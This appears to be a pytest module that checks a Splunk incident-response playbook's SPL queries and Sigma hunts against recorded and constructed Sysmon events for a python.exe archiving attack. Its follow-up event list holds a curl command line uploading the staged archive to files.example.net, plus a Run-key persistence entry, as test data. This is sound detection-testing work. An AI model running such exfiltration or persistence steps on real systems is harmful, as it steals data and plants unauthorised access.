"""The shipped playbook's SPL queries, run on the Splunk stand-in over recorded events.

Every recorded event of the seed detection's 16 tests goes to the stand-in through HEC
with the real client, mapped by `splunk_event` and scoped as Splunk validation runs do
(`detections.validation.splunk_runs`). Each SPL query of the playbook then runs as an
analyst would run it for the alert on test 1, python.exe compressing the hosts file with
zlib into `stage_df00.zlib`. The `$name$` inputs take the values that the analyst reads
from that test's events. The stand-in's clock is one hour after the last recorded
Windows event, so `earliest=-24h` and the wider windows cover the whole recording.

The recorded attack stops once the archive is written: it has no DNS query, connection,
upload, deletion or persistence. The queries that look for those find nothing in the
recording, so they also run over follow-up events constructed for this test on the same
host. The follow-up continues the attack of test 1 and is not a recording.
"""

import re
from pathlib import Path

import pytest
import yaml

from detections.content.reader import read_content
from detections.pysigma.embedded import compile_rule
from detections.validation.embedded import run_rules
from detections.validation.events import SYSMON_CHANNEL, splunk_event
from detections.validation.splunk import SplunkClient, SplunkError, scope_query
from playbooks.content.checks import TOKEN_PATTERN

from .conftest import CONTENT_DIR, SEED_SLUG
from .splunk_standin import SplunkStandIn

PLAYBOOK_DIR = CONTENT_DIR / "playbooks" / "archive-via-library-response"
INDEX = "portal_validation"
RECORDED = "playbook-recorded"
FOLLOW_UP = "playbook-follow-up"

# Queries whose SPL the stand-in does not model, with the reason.
NOT_MODELLED = {
    "step-7-query-2": (
        "tstats over the CIM Web data model: the stand-in has no data models and no "
        "generating commands, and the recording holds no proxy logs"
    ),
    "question-4-query-2": "the same tstats search as step-7-query-2",
}

HOST = "wks-0421.corp.example.com"
ALERT_GUID = "{b1e5d0a4-81e3-6b0d-bc02-000000002e00}"
ALERT_PARENT_GUID = "{b1e5d0a4-81e3-6b0d-b502-000000002e00}"
PYTHON = r"C:\Users\jdoe\AppData\Local\Programs\Python\Python312\python.exe"
ARCHIVE = r"C:\Users\jdoe\AppData\Local\Temp\stage_df00.zlib"
DESTINATION = "files.example.net"
DESTINATION_IP = "203.0.113.50"
HOST_IP = "10.20.4.21"
WINWORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"


def playbook_queries() -> tuple[dict[str, dict], dict[str, str]]:
    """Return the playbook's queries by element id, and each repeated query's first id.

    The ids follow the page: `step-<n>-query-<m>`, `question-<n>-query-<m>` and
    `hunt-<n>-query-<m>`.
    """
    document = yaml.safe_load((PLAYBOOK_DIR / "playbook.yml").read_text(encoding="utf-8"))
    queries: dict[str, dict] = {}
    repeats: dict[str, str] = {}
    first_by_text: dict[str, str] = {}
    for part, name in (("response", "step"), ("investigation", "question"), ("hunting", "hunt")):
        for number, owner in enumerate(document[part], 1):
            for position, query in enumerate(owner.get("queries") or [], 1):
                key = f"{name}-{number}-query-{position}"
                queries[key] = query
                if query["text"] in first_by_text:
                    repeats[key] = first_by_text[query["text"]]
                else:
                    first_by_text[query["text"]] = key
    return queries, repeats


QUERIES, REPEATS = playbook_queries()
UNIQUE_KEYS = [key for key in QUERIES if key not in REPEATS]


def sysmon(event_id: int, clock: str, **fields) -> dict:
    """Return a Sysmon event on the alert's host at `clock` (HH:MM:SS) on 2026-11-30."""
    return {
        "Channel": SYSMON_CHANNEL,
        "EventID": event_id,
        "Computer": HOST,
        "TimeCreated": f"2026-11-30T{clock}.0000000Z",
        "User": "CORP\\jdoe",
        **fields,
    }


# What the attack of test 1 would do next. The domain and the remote address are from
# the ranges reserved for documentation (example.net, 203.0.113.0/24).
FOLLOW_UP_EVENTS = [
    sysmon(22, "14:03:05", Image=PYTHON, ProcessGuid=ALERT_GUID, QueryName=DESTINATION,
           QueryResults=f"::ffff:{DESTINATION_IP};"),
    sysmon(3, "14:03:06", Image=PYTHON, ProcessGuid=ALERT_GUID, Protocol="tcp",
           Initiated="true", SourceIp=HOST_IP, SourcePort="51544",
           DestinationIp=DESTINATION_IP, DestinationHostname=DESTINATION,
           DestinationPort="443"),
    sysmon(1, "14:04:10", Image=r"C:\Windows\System32\curl.exe",
           CommandLine=f"curl.exe -T {ARCHIVE} https://{DESTINATION}/upload",
           ProcessGuid="{b1e5d0a4-8222-6b0d-c002-000000002e00}",
           ParentImage=PYTHON, ParentProcessGuid=ALERT_GUID),
    sysmon(3, "14:04:11", Image=r"C:\Windows\System32\curl.exe",
           ProcessGuid="{b1e5d0a4-8222-6b0d-c002-000000002e00}", Protocol="tcp",
           Initiated="true", SourceIp=HOST_IP, SourcePort="51546",
           DestinationIp=DESTINATION_IP, DestinationHostname=DESTINATION,
           DestinationPort="443"),
    sysmon(26, "14:05:00", Image=PYTHON, ProcessGuid=ALERT_GUID, TargetFilename=ARCHIVE),
    sysmon(13, "14:06:00", Image=PYTHON, ProcessGuid=ALERT_GUID, EventType="SetValue",
           TargetObject=r"HKU\S-1-5-21-1004\Software\Microsoft\Windows\CurrentVersion\Run\Updater",
           Details=rf"{PYTHON} C:\Users\jdoe\AppData\Local\Temp\collect.py"),
    sysmon(7, "14:07:00", Image=r"C:\Users\jdoe\AppData\Local\Temp\pk\packer.exe",
           ImageLoaded=r"C:\Users\jdoe\AppData\Local\Temp\pk\zlib1.dll",
           ProcessGuid="{b1e5d0a4-8300-6b0d-c102-000000002e00}", Signed="false",
           Signature="", SignatureStatus="Unavailable"),
    sysmon(1, "14:08:00", Image=PYTHON,
           CommandLine='python.exe -c "import zlib, glob; ..."',
           ProcessGuid="{b1e5d0a4-8340-6b0d-c202-000000002e00}",
           ParentImage=WINWORD,
           ParentProcessGuid="{b1e5d0a4-8330-6b0d-c302-000000002e00}"),
]  # fmt: skip


@pytest.fixture(scope="module")
def recorded_tests() -> list[dict]:
    bundle = read_content(CONTENT_DIR)
    detection = next(item for item in bundle.detections if item.document["slug"] == SEED_SLUG)
    return detection.document["tests"]


@pytest.fixture(scope="module")
def recorded_events(recorded_tests) -> list[dict]:
    return [event for test in recorded_tests for event in test["recorded_events"]]


@pytest.fixture(scope="module")
def alert_inputs(recorded_tests) -> dict[str, str]:
    """Return the inputs as the analyst reads them from test 1's events.

    `host_ip` and `destination` come from network events, which the recording lacks.
    """
    events = recorded_tests[0]["recorded_events"]
    process = next(
        event for event in events
        if event["EventID"] == 1 and event["Image"].endswith("\\python.exe")
    )
    written = next(event for event in events if event["EventID"] == 11)
    return {
        "host": process["Computer"],
        "user_name": process["User"].split("\\")[-1],
        "process_name": process["Image"].split("\\")[-1],
        "process_guid": process["ProcessGuid"],
        "parent_process_guid": process["ParentProcessGuid"],
        "process_sha256": re.search(r"SHA256=([0-9A-F]{64})", process["Hashes"]).group(1),
        "archive_name": written["TargetFilename"].split("\\")[-1],
    }


@pytest.fixture(scope="module")
def follow_up_inputs(alert_inputs) -> dict[str, str]:
    """Return the inputs with the values the analyst reads from the follow-up events."""
    connection = next(event for event in FOLLOW_UP_EVENTS if event["EventID"] == 3)
    return alert_inputs | {
        "host_ip": connection["SourceIp"],
        "destination": connection["DestinationHostname"],
    }


@pytest.fixture(scope="module")
def splunk(recorded_events):
    last = max(splunk_event(event)["time"] for event in recorded_events if "Channel" in event)
    with SplunkStandIn(index=INDEX, clock=lambda: last + 3600) as standin:
        yield standin


@pytest.fixture(scope="module")
def client(splunk, recorded_events):
    """Return a client after sending the recording, and the recording plus follow-up."""
    with SplunkClient(
        splunk.url, splunk.token, splunk.hec_url, splunk.hec_token, splunk.index,
        True, 5.0, 5.0, 0.01,
    ) as splunk_client:
        for scope, events in (
            (RECORDED, recorded_events),
            (FOLLOW_UP, recorded_events + FOLLOW_UP_EVENTS),
        ):
            splunk_client.send_events([splunk_event(event) for event in events], scope)
            splunk_client.wait_until_searchable(scope, len(events))
        yield splunk_client


def query_text(key: str, inputs: dict[str, str]) -> str:
    """Return a query with its `$name$` tokens replaced; fail on a token without a value."""

    def value(match: re.Match) -> str:
        name = match.group(1)
        assert name in inputs, f"{key} needs the input ${name}$, which has no value here"
        return inputs[name]

    return TOKEN_PATTERN.sub(value, QUERIES[key]["text"])


def search(client: SplunkClient, key: str, inputs: dict[str, str], scope: str) -> list[dict]:
    scoped = scope_query(query_text(key, inputs), scope, client.index)
    return client.search(scoped)


def column(rows: list[dict], name: str) -> list:
    return [row.get(name) for row in rows]


# Every query


def test_query_list_complete():
    assert len(QUERIES) == 25
    assert len(UNIQUE_KEYS) == 21
    assert REPEATS == {
        "question-2-query-1": "step-5-query-1",
        "question-3-query-2": "step-6-query-1",
        "question-4-query-1": "step-7-query-1",
        "question-4-query-2": "step-7-query-2",
    }
    assert set(NOT_MODELLED) <= set(QUERIES)


@pytest.mark.parametrize("key", [key for key in UNIQUE_KEYS if key not in NOT_MODELLED])
def test_query_runs_on_standin(client, follow_up_inputs, key):
    rows = search(client, key, follow_up_inputs, FOLLOW_UP)

    assert isinstance(rows, list)


@pytest.mark.parametrize("key", sorted(NOT_MODELLED))
def test_query_not_modelled(client, follow_up_inputs, key):
    text = query_text(key, follow_up_inputs)

    with pytest.raises(ValueError, match="starts with a generating command"):
        scope_query(text, FOLLOW_UP, client.index)
    with pytest.raises(SplunkError) as error:
        client.search(text)
    assert error.value.kind == "syntax"
    assert "does not support generating commands such as 'tstats'" in str(error.value)


# The recorded events, for the alert on test 1


def test_find_process_instances(client, alert_inputs):
    rows = search(client, "step-1-query-1", alert_inputs, RECORDED)

    alert = next(row for row in rows if row["ProcessGuid"] == ALERT_GUID)
    # Every python.exe process on the host: tests 1, 4 (two), 15 and the conda test (two).
    assert len(rows) == 6
    assert alert["Image"] == PYTHON
    assert alert["parent_process_guid"] == ALERT_PARENT_GUID
    assert alert["parent_image"] == r"C:\Windows\System32\cmd.exe"
    assert alert["event_codes"] == ["1", "11", "7"]
    assert alert["files_written"] == ARCHIVE
    assert alert["first_seen"] == "11/30/2026 14:02:11"
    assert re.fullmatch(r"SHA1=\w+,MD5=\w+,SHA256=10C65D98\w+,IMPHASH=\w+", alert["image_hashes"])


def test_parent_prevalence(client, alert_inputs):
    rows = search(client, "step-2-query-1", alert_inputs, RECORDED)

    top = rows[0]
    assert top["ParentImage"] == r"C:\Windows\System32\cmd.exe"
    assert top["launches"] == "3"
    assert top["all_launches"] == "7"
    assert top["share_percent"] == "42.86"
    assert top["hosts"] == "1"
    assert len(rows) == 5


def test_process_tree(client, alert_inputs):
    rows = search(client, "step-4-query-1", alert_inputs, RECORDED)

    assert column(rows, "relation") == ["parent", "matching process"]
    assert column(rows, "ProcessGuid") == [ALERT_PARENT_GUID, ALERT_GUID]
    assert rows[1]["LogonId"] == "0x2d4f1a"


def test_activity_timeline(client, alert_inputs):
    rows = search(client, "step-5-query-1", alert_inputs, RECORDED)

    activities = column(rows, "activity")
    assert len(rows) == 4
    assert activities[0].startswith('started: python.exe  -c "import zlib;')
    assert activities[1:] == [
        r"loaded C:\Users\jdoe\AppData\Local\Programs\Python\Python312\python312.dll",
        r"loaded C:\Users\jdoe\AppData\Local\Programs\Python\Python312\vcruntime140.dll",
        f"wrote {ARCHIVE}",
    ]


def test_archive_events(client, alert_inputs):
    rows = search(client, "step-6-query-1", alert_inputs, RECORDED)

    assert column(rows, "action") == [
        "process started naming the file",
        "process started naming the file",
        "file written",
    ]
    assert column(rows, "ProcessGuid") == [ALERT_PARENT_GUID, ALERT_GUID, ALERT_GUID]


def test_files_written(client, alert_inputs):
    rows = search(client, "question-3-query-1", alert_inputs, RECORDED)

    assert rows == [
        {"TargetFilename": ARCHIVE, "first_written": "11/30/2026 14:02:11", "writes": "1"}
    ]


def test_process_and_parent_details(client, alert_inputs):
    rows = search(client, "question-1-query-1", alert_inputs, RECORDED)

    python = next(row for row in rows if row["ProcessGuid"] == ALERT_GUID)
    assert column(rows, "ProcessGuid") == [ALERT_PARENT_GUID, ALERT_GUID]
    assert python["libraries"] == [
        r"C:\Users\jdoe\AppData\Local\Programs\Python\Python312\python312.dll",
        r"C:\Users\jdoe\AppData\Local\Programs\Python\Python312\vcruntime140.dll",
    ]
    assert python["integrity_level"] == "Medium"


def test_account_hosts(client, alert_inputs):
    rows = search(client, "step-10-query-1", alert_inputs, RECORDED)

    assert column(rows, "host") == [HOST]
    assert rows[0]["processes"] == "12"


def test_same_hash_hosts(client, alert_inputs):
    rows = search(client, "question-5-query-1", alert_inputs, RECORDED)

    assert len(rows) == 1
    assert rows[0]["host"] == HOST
    assert rows[0]["Image"] == PYTHON
    # The same python.exe ran in tests 1, 4 (twice) and 15.
    assert rows[0]["processes"] == "4"


def test_watch_finds_attack(client, alert_inputs):
    rows = search(client, "step-14-query-1", alert_inputs, RECORDED)

    written = next(row for row in rows if row["EventCode"] == "11" and row["Image"] == PYTHON)
    assert ARCHIVE in written["files"]
    assert r"C:\Users\jdoe\AppData\Local\Temp\stage_df00_lib.zip" in written["files"]
    assert any(row["EventCode"] == "1" and row["Image"] == PYTHON for row in rows)


def test_tuning_parents(client, alert_inputs):
    rows = search(client, "step-16-query-1", alert_inputs, RECORDED)

    pairs = {(row["ParentImage"].split("\\")[-1], row["Image"].split("\\")[-1]) for row in rows}
    assert pairs == {
        ("powershell.exe", "powershell.exe"),
        ("cmd.exe", "python.exe"),
        ("svchost.exe", "powershell.exe"),
    }


def test_staging_hunt_finds_zip(client, alert_inputs):
    rows = search(client, "hunt-4-query-1", alert_inputs, RECORDED)

    assert len(rows) == 1
    assert rows[0]["sample_files"] == r"C:\Users\jdoe\AppData\Local\Temp\stage_df00_lib.zip"


@pytest.mark.parametrize(
    "key",
    ["step-7-query-1", "step-12-query-1", "hunt-1-query-1", "hunt-2-query-1",
     "hunt-3-query-1", "hunt-5-query-1", "hunt-6-query-1"],
)  # fmt: skip
def test_recording_lacks_later_stages(client, alert_inputs, key):
    # The recorded attack ends once the archive is written.
    assert search(client, key, alert_inputs, RECORDED) == []


# The follow-up events


def test_follow_up_network(client, follow_up_inputs):
    rows = search(client, "step-7-query-1", follow_up_inputs, FOLLOW_UP)

    by_image = {row["Image"].split("\\")[-1]: row for row in rows}
    assert set(by_image) == {"python.exe", "curl.exe"}
    assert by_image["python.exe"]["destination"] == DESTINATION
    assert by_image["python.exe"]["events"] == "2"
    assert by_image["curl.exe"]["source_ips"] == HOST_IP


def test_follow_up_destination_hosts(client, follow_up_inputs):
    rows = search(client, "step-9-query-1", follow_up_inputs, FOLLOW_UP)

    assert column(rows, "host") == [HOST]
    assert rows[0]["events"] == "3"


def test_follow_up_archive_events(client, follow_up_inputs):
    rows = search(client, "step-6-query-1", follow_up_inputs, FOLLOW_UP)

    assert column(rows, "action")[-2:] == ["process started naming the file", "file deleted"]
    assert rows[-2]["Image"] == r"C:\Windows\System32\curl.exe"


def test_follow_up_persistence(client, follow_up_inputs):
    rows = search(client, "step-12-query-1", follow_up_inputs, FOLLOW_UP)

    assert len(rows) == 1
    assert rows[0]["TargetObject"].endswith(r"\CurrentVersion\Run\Updater")


@pytest.mark.parametrize(
    ("key", "field", "expected"),
    [
        ("hunt-1-query-1", "archives", ARCHIVE),
        ("hunt-2-query-1", "ImageLoaded", r"C:\Users\jdoe\AppData\Local\Temp\pk\zlib1.dll"),
        ("hunt-3-query-1", "TargetFilename", ARCHIVE),
        ("hunt-5-query-1", "Image", r"C:\Windows\System32\curl.exe"),
        ("hunt-6-query-1", "ParentImage", WINWORD),
    ],
)
def test_follow_up_hunts(client, follow_up_inputs, key, field, expected):
    rows = search(client, key, follow_up_inputs, FOLLOW_UP)

    assert column(rows, field) == [expected]


def test_follow_up_deletion_minutes(client, follow_up_inputs):
    rows = search(client, "hunt-3-query-1", follow_up_inputs, FOLLOW_UP)

    assert rows[0]["minutes_on_disk"] == "2.8"
    assert rows[0]["deleted_by"] == PYTHON


# Each hunt's Sigma form finds the events its SPL finds


@pytest.mark.parametrize(
    ("key", "image"),
    [
        ("hunt-2-query-1", r"C:\Users\jdoe\AppData\Local\Temp\pk\packer.exe"),
        ("hunt-5-query-1", r"C:\Windows\System32\curl.exe"),
        ("hunt-6-query-1", PYTHON),
    ],
)
def test_sigma_form_matches_follow_up(key, image):
    path = PLAYBOOK_DIR / QUERIES[key]["sigma"]
    rule = compile_rule(path.read_text(encoding="utf-8"), source=path.name)

    result = run_rules([rule], FOLLOW_UP_EVENTS)

    matched = [FOLLOW_UP_EVENTS[index] for index in sorted(result.rules[0].matched)]
    assert result.errors == []
    assert [event["Image"] for event in matched] == [image]


def test_sigma_forms_on_recording(recorded_events):
    paths = sorted(Path(PLAYBOOK_DIR / "sigma").glob("*.yml"))
    rules = [compile_rule(path.read_text(encoding="utf-8"), source=path.name) for path in paths]

    result = run_rules(rules, recorded_events)

    matched = [recorded_events[index]["TargetFilename"] for index in sorted(result.matched)]
    assert matched == [r"C:\Users\jdoe\AppData\Local\Temp\stage_df00_lib.zip"]
